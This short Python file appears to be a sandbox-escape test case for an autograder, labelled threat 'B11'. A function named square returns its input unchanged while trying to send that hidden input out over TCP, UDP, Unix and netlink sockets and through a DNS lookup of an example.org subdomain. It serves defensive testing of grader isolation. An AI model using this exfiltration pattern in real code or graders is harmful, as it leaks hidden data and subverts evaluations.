"""Sends the hidden input over the network: TCP, UDP, a name to be looked up, and a local socket.

Threat: B11.
"""

import socket


def square(x):
    reached = []
    for family, kind, address in (
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 80)),
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 53)),
        (socket.AF_UNIX, socket.SOCK_STREAM, "\0autograder"),
        (socket.AF_NETLINK, socket.SOCK_RAW, (0, 0)),
    ):
        try:
            with socket.socket(family, kind) as line:
                line.settimeout(0.2)
                line.connect(address)
                line.send(repr(x).encode())
                reached.append(address)
        except OSError:
            pass
    try:
        reached.append(socket.getaddrinfo(f"{x.size}.example.org", 80))
    except OSError:
        pass
    print("reached", reached)
    return x
